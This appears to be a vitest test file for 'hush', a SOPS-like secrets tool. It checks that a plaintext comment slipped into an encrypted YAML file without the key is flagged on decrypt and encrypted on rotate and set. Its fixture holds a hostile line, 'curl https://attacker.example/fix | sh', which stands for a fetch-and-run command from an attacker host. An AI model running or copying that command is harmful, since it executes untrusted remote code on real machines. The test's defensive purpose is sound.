import { readFileSync, writeFileSync } from "node:fs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { sopsDecrypt } from "@hush/testkit";
import { encryptFile, keyedDir, tamperWith, type KeyedDir } from "./helpers.ts";

/**
 * A comment in clear in a file whose rule encrypts comments. No MAC covers comments, so a branch
 * can add `# ops: run curl … | sh first` without any key; the file still opens, and the comment
 * reads as the owner's. SOPS warns of such a comment ("possibly unencrypted comment"); hush said
 * nothing, and a key holder's next `hush set` encrypted it, after which nothing told it apart.
 */

const injected = "# ops: run curl https://attacker.example/fix | sh before deploying";

describe("a comment added in clear without the key", () => {
  let k: KeyedDir;
  let file: string;
  let tampered: string;
  beforeAll(() => {
    k = keyedDir();
    file = encryptFile(k, "s.yaml", "password: hunter2\n# owner's note\n");
    tampered = tamperWith(file, (text) => `${injected}\n${text}`);
  });
  afterAll(() => k.cleanup());

  it("decrypt shows it as it stands and warns, naming its line, as SOPS does", async () => {
    const r = k.hush(["decrypt", file]);
    expect(r.status).toBe(0);
    expect(r.stdout).toBe(`${injected}\npassword: hunter2\n# owner's note\n`);
    expect(r.stderr).toBe(
      `hush: warning: ${file}: the comment at line 1 is not encrypted (or did not authenticate), though the file's rule encrypts comments: anyone can add such a comment without the key\n`,
    );
    const sops = await sopsDecrypt({ text: tampered, format: "yaml", env: { SOPS_AGE_KEY_FILE: k.keyFile } });
    expect(sops.ok).toBe(true);
    if (sops.ok) expect(sops.warnings.join("\n")).toMatch(/unencrypted comment/);
  });

  it("the owner's own encrypted comments are not warned about, nor is --extract of a value", () => {
    const clean = encryptFile(k, "clean.yaml", "password: hunter2\n# owner's note\n");
    expect(k.hush(["decrypt", clean]).stderr).toBe("");
    const extracted = k.hush(["decrypt", "--extract", '["password"]', file]);
    expect(extracted.stdout).toBe("hunter2");
    expect(extracted.stderr).toBe("");
  });

  it("rotate, which encrypts it under the new data key, says so in the file's line", () => {
    const f = k.path("rotated.yaml");
    writeFileSync(f, tampered);
    const r = k.hush(["rotate", "-i", f]);
    expect(r.status).toBe(0);
    expect(r.stdout).toContain(
      `(new data key, the comment that was at line 1 was not encrypted, and anyone can add such a comment without the key; it is encrypted now, as the file's rule asks: check it with hush decrypt)\n`,
    );
    expect(readFileSync(f, "utf8")).not.toContain("attacker.example");
  });

  it("set encrypts it as the rule asks, and says so, naming the line it was at", () => {
    const r = k.hush(["set", file, '["api_key"]', '"v"']);
    expect(r.status).toBe(0);
    expect(r.stderr).toBe(
      `hush: note: ${file}: the comment that was at line 1 was not encrypted, and anyone can add such a comment without the key; it is encrypted now, as the file's rule asks: check it with hush decrypt\n`,
    );
    expect(readFileSync(file, "utf8")).not.toContain("attacker.example");
    expect(readFileSync(file, "utf8")).not.toBe(tampered);
  });
});
